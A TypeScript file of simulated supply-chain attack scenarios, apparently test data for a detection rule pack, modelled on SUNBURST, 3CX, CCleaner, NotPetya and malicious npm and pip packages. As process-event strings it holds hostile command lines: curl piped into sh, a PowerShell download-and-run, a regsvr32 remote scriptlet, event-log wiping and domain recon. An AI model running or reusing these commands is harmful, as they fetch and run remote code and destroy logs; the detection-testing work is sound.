/** Attack scenarios beyond the atomic tests: one or more per rule of the pack, modelled on the named incidents. */
import { PATHS } from '../catalog.js';
import type { ScenarioDef } from '../types.js';
import { file, net, proc, running } from './dsl.js';

const W = { kind: 'attack', platform: 'windows' } as const;
const BLH = 'C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.BusinessLayerHost.exe';
const NPM = `"${PATHS.node}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js"`;
const PKG = '%USERPROFILE%\\source\\repos\\webapp\\node_modules\\color-utilz';
const ENC = 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA';

/** Attack scenarios. */
export const ATTACKS: readonly ScenarioDef[] = [
  {
    ...W,
    id: 'attack-msi-custom-action-payload',
    title: 'Trojanized MSI custom action runs encoded PowerShell as SYSTEM',
    technique: 'T1195.002',
    role: 'workstation',
    as: 'system',
    steps: [
      running('msisrv', PATHS.msiexec, 'C:\\Windows\\system32\\msiexec.exe /V'),
      proc(
        'ca',
        PATHS.msiexec,
        'C:\\Windows\\System32\\MsiExec.exe -Embedding 8D3A1F0C5B2E4F6A9C7D0E1F2A3B4C5D E Global\\MSI0000',
        { parent: 'msisrv' },
      ),
      proc('ps', PATHS.powershell, `powershell.exe -NoP -W Hidden -NonI -Enc ${ENC}`, { parent: 'ca' }),
      net('ps', '45.146.165.37', 443, 'cdn.pdf-toolkit-update.com'),
    ],
  },
  {
    ...W,
    id: 'attack-updater-c2-nonstandard-port',
    title: 'Trojanized updater beacons to a VPS on port 7443',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      proc(
        'upd',
        '%LOCALAPPDATA%\\Programs\\FastViewer\\updater.exe',
        '"%LOCALAPPDATA%\\Programs\\FastViewer\\updater.exe" --check',
      ),
      net('upd', '185.225.73.18', 7443, 'cdn-update.fastviewer-app.net'),
      net('upd', '185.225.73.18', 7443, 'cdn-update.fastviewer-app.net', 60_000),
      net('upd', '185.225.73.18', 7443, 'cdn-update.fastviewer-app.net', 60_000),
    ],
  },
  {
    ...W,
    id: 'attack-updater-drop-execute',
    title: 'Scheduled updater drops an EXE into C:\\Windows\\Temp and runs it',
    technique: 'T1195.002',
    role: 'workstation',
    as: 'system',
    steps: [
      running('sched', PATHS.svchost, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'),
      proc(
        'upd',
        'C:\\Program Files (x86)\\PDFSuite\\update.exe',
        '"C:\\Program Files (x86)\\PDFSuite\\update.exe" /silent',
        { parent: 'sched' },
      ),
      file('upd', 'C:\\Windows\\Temp\\pdfs_4f2a91.exe'),
      proc('drop', 'C:\\Windows\\Temp\\pdfs_4f2a91.exe', '"C:\\Windows\\Temp\\pdfs_4f2a91.exe" -svc', {
        parent: 'upd',
        after: 4000,
      }),
      net('drop', '91.215.85.142', 443, 'telemetry.pdfsuite-cdn.net'),
    ],
  },
  {
    ...W,
    id: 'attack-sunspot-msbuild-powershell',
    title: 'SUNSPOT-style: MSBuild on a build agent starts hidden PowerShell',
    technique: 'T1195.002',
    role: 'build',
    steps: [
      running('worker', 'C:\\agent\\bin\\Agent.Worker.exe', 'C:\\agent\\bin\\Agent.Worker.exe spawnclient 3152 3156'),
      proc('msb', PATHS.msbuild, `"${PATHS.msbuild}" C:\\agent\\_work\\1\\s\\Orion.sln /p:Configuration=Release /m`, {
        parent: 'worker',
        cwd: 'C:\\agent\\_work\\1\\s\\',
      }),
      proc('ps', PATHS.powershell, `powershell.exe -nop -w hidden -enc ${ENC}`, {
        parent: 'msb',
        cwd: 'C:\\agent\\_work\\1\\s\\',
      }),
    ],
  },
  {
    ...W,
    id: 'attack-squirrel-regsvr32',
    title: 'Squirrel updater of a trojanized app proxies a remote scriptlet through regsvr32',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      proc(
        'sq',
        '%LOCALAPPDATA%\\NoteSync\\squirrel.exe',
        '"%LOCALAPPDATA%\\NoteSync\\squirrel.exe" --processStart NoteSync.exe',
      ),
      proc('reg', PATHS.regsvr32, 'regsvr32.exe /s /n /u /i:http://193.42.33.14/notesync.sct scrobj.dll', {
        parent: 'sq',
      }),
      net('reg', '193.42.33.14', 80),
    ],
  },
  {
    ...W,
    id: 'attack-vendor-app-shell',
    title: 'Side-loaded DLL in a signed vendor app (Program Files) opens a recon shell',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      proc(
        'app',
        'C:\\Program Files\\Contoso\\Viewer\\ContosoViewer.exe',
        '"C:\\Program Files\\Contoso\\Viewer\\ContosoViewer.exe"',
        {
          meta: {
            company: 'Contoso Ltd',
            product: 'Contoso Viewer',
            description: 'Contoso Viewer',
            version: '4.2.1.0',
            originalFileName: 'ContosoViewer.exe',
          },
        },
      ),
      proc('cmd', PATHS.cmd, 'cmd.exe /c whoami /all & net group "domain admins" /domain', { parent: 'app' }),
      proc('who', PATHS.whoami, 'whoami /all', { parent: 'cmd' }),
    ],
  },
  {
    ...W,
    id: 'attack-npm-postinstall-powershell',
    title: 'Malicious npm dependency: postinstall -> node setup.js -> PowerShell download',
    technique: 'T1195.001',
    role: 'build',
    steps: [
      proc('shell', PATHS.cmd, '"C:\\Windows\\system32\\cmd.exe"', { cwd: '%USERPROFILE%\\source\\repos\\webapp\\' }),
      proc('npm', PATHS.node, `${NPM} install`, { parent: 'shell', cwd: '%USERPROFILE%\\source\\repos\\webapp\\' }),
      proc('hook', PATHS.cmd, 'C:\\Windows\\system32\\cmd.exe /d /s /c "node scripts/setup.js"', {
        parent: 'npm',
        cwd: `${PKG}\\`,
      }),
      proc('js', PATHS.node, 'node scripts/setup.js', { parent: 'hook', cwd: `${PKG}\\` }),
      proc(
        'ps',
        PATHS.powershell,
        'powershell.exe -NoProfile -WindowStyle Hidden -Command "iwr https://npm-stats.color-utilz.dev/svc -OutFile $env:TEMP\\svchelper.exe; & $env:TEMP\\svchelper.exe"',
        { parent: 'js', cwd: `${PKG}\\` },
      ),
      net('ps', '104.21.48.201', 443, 'npm-stats.color-utilz.dev'),
    ],
  },
  {
    id: 'attack-pip-sdist-curl',
    title: 'Typosquatted sdist: setup.py egg_info pipes curl into sh',
    kind: 'attack',
    technique: 'T1195.001',
    platform: 'linux',
    role: 'linux',
    steps: [
      proc('pip', PATHS.python, 'python3 -m pip install reqeusts', { cwd: '$HOME/project' }),
      proc('egg', PATHS.python, '', {
        parent: 'pip',
        cwd: '/tmp/pip-install-k2j4h1x9/reqeusts_0',
        argv: [
          '/usr/bin/python3.11',
          '-c',
          'import setuptools; exec(open("/tmp/pip-install-k2j4h1x9/reqeusts_0/setup.py").read())',
          'egg_info',
          '--egg-base',
          '/tmp/pip-pip-egg-info-3nq8v2',
        ],
      }),
      proc('sh', PATHS.dash, '', {
        parent: 'egg',
        cwd: '/tmp/pip-install-k2j4h1x9/reqeusts_0',
        argv: ['/bin/sh', '-c', 'curl -fsSL http://45.61.136.47/x.sh | sh'],
      }),
      proc('curl', '/usr/bin/curl', 'curl -fsSL http://45.61.136.47/x.sh', {
        parent: 'sh',
        cwd: '/tmp/pip-install-k2j4h1x9/reqeusts_0',
      }),
      net('curl', '45.61.136.47', 80),
    ],
  },
  {
    ...W,
    id: 'attack-sunburst-businesslayerhost',
    title: 'SUNBURST: Orion BusinessLayerHost starts cmd and rundll32 (TEARDROP)',
    technique: 'T1195.002',
    role: 'server',
    as: 'system',
    steps: [
      running('blh', BLH, `"${BLH}"`),
      proc('cmd', PATHS.cmd, 'C:\\Windows\\system32\\cmd.exe /C whoami /groups && nltest /domain_trusts', {
        parent: 'blh',
      }),
      proc('dll', PATHS.rundll32, 'rundll32.exe C:\\Windows\\SKB\\LangModel.dll,Tk_CreateItem', { parent: 'blh' }),
    ],
  },
  {
    ...W,
    id: 'attack-3cx-desktopapp',
    title: '3CX DesktopApp (18.12.416) starts cmd and an odd child',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      running(
        'app',
        '%LOCALAPPDATA%\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe',
        '"%LOCALAPPDATA%\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"',
        {
          meta: {
            company: '3CX',
            product: '3CX Desktop App',
            version: '18.12.416',
            description: '3CX Desktop App',
            originalFileName: '3CXDesktopApp.exe',
          },
        },
      ),
      proc('cmd', PATHS.cmd, 'cmd.exe /c whoami /all & ipconfig /all', { parent: 'app' }),
      proc(
        'odd',
        '%LOCALAPPDATA%\\Programs\\3CXDesktopApp\\app\\iconcache.exe',
        '"%LOCALAPPDATA%\\Programs\\3CXDesktopApp\\app\\iconcache.exe"',
        { parent: 'app' },
      ),
      net('app', '104.18.7.192', 443, 'raw.githubusercontent.com'),
    ],
  },
  {
    ...W,
    id: 'attack-ccleaner-backdoor',
    title: 'CCleaner 5.33 backdoor: CCleaner64.exe runs cmd and calls 216.126.225.148',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      running(
        'cc',
        'C:\\Program Files\\CCleaner\\CCleaner64.exe',
        '"C:\\Program Files\\CCleaner\\CCleaner64.exe" /MONITOR',
        {
          meta: {
            company: 'Piriform Ltd',
            product: 'CCleaner',
            version: '5.33.6162',
            description: 'CCleaner',
            originalFileName: 'CCleaner64.exe',
          },
        },
      ),
      net('cc', '216.126.225.148', 443),
      proc('cmd', PATHS.cmd, 'cmd.exe /c systeminfo > %TEMP%\\si.txt', { parent: 'cc' }),
      file('cmd', '%TEMP%\\si.txt'),
    ],
  },
  {
    ...W,
    id: 'attack-notpetya-medoc',
    title: 'NotPetya via M.E.Doc: ezvit.exe runs perfc.dat through rundll32',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      running('medoc', 'C:\\ProgramData\\Medoc\\Medoc\\ezvit.exe', '"C:\\ProgramData\\Medoc\\Medoc\\ezvit.exe"', {
        meta: {
          company: 'IntellectService',
          product: 'M.E.Doc',
          version: '10.01.175',
          description: 'M.E.Doc',
          originalFileName: 'ezvit.exe',
        },
      }),
      file('medoc', 'C:\\ProgramData\\perfc.dat'),
      proc('dll', PATHS.rundll32, '"C:\\Windows\\system32\\rundll32.exe" "C:\\ProgramData\\perfc.dat",#1 30', {
        parent: 'medoc',
      }),
      proc(
        'task',
        PATHS.schtasks,
        'schtasks /RU "SYSTEM" /Create /SC once /TN "" /TR "C:\\Windows\\system32\\shutdown.exe /r /f" /ST 14:42',
        { parent: 'dll' },
      ),
      proc(
        'wipe',
        PATHS.cmd,
        'cmd.exe /c wevtutil cl Setup & wevtutil cl System & wevtutil cl Security & wevtutil cl Application & fsutil usn deletejournal /D C:',
        { parent: 'dll' },
      ),
      proc('wev', PATHS.wevtutil, 'wevtutil cl Setup', { parent: 'wipe' }),
    ],
  },
  {
    ...W,
    id: 'attack-vendor-binary-hash-drift',
    title: 'notepad++.exe 8.6.4 replaced in place by a tampered build (same version, new hash)',
    technique: 'T1195.002',
    role: 'workstation',
    steps: [
      proc('v1', 'C:\\Program Files\\Notepad++\\notepad++.exe', '"C:\\Program Files\\Notepad++\\notepad++.exe"', {
        meta: NPP('8.6.4'),
      }),
      running(
        'gup',
        'C:\\Program Files\\Notepad++\\updater\\GUP.exe',
        '"C:\\Program Files\\Notepad++\\updater\\GUP.exe" -v8.6.4',
      ),
      file('gup', 'C:\\Program Files\\Notepad++\\notepad++.exe', 3_600_000),
      proc('v2', 'C:\\Program Files\\Notepad++\\notepad++.exe', '"C:\\Program Files\\Notepad++\\notepad++.exe"', {
        meta: NPP('8.6.4'),
        variant: 'tampered',
        after: 3_600_000,
      }),
    ],
  },
  {
    ...W,
    id: 'attack-firmware-flash-tool',
    title: 'Intel FPT run from C:\\Users\\Public to write a modified BIOS region',
    technique: 'T1195.003',
    role: 'workstation',
    steps: [
      proc('cmd', PATHS.cmd, '"C:\\Windows\\system32\\cmd.exe"'),
      proc('fpt', 'C:\\Users\\Public\\fw\\FPTW64.exe', 'FPTW64.exe -f C:\\Users\\Public\\fw\\bios_mod.bin -bios', {
        parent: 'cmd',
        meta: {
          company: 'Intel Corporation',
          product: 'Intel(R) Flash Programming Tool',
          description: 'Flash Programming Tool',
          version: '16.1.25.2124',
          originalFileName: 'FPTW64.exe',
        },
      }),
    ],
  },
];

function NPP(version: string) {
  return {
    company: 'Don HO don.h@free.fr',
    product: 'Notepad++',
    description: 'Notepad++',
    version,
    originalFileName: 'notepad++.exe',
  };
}
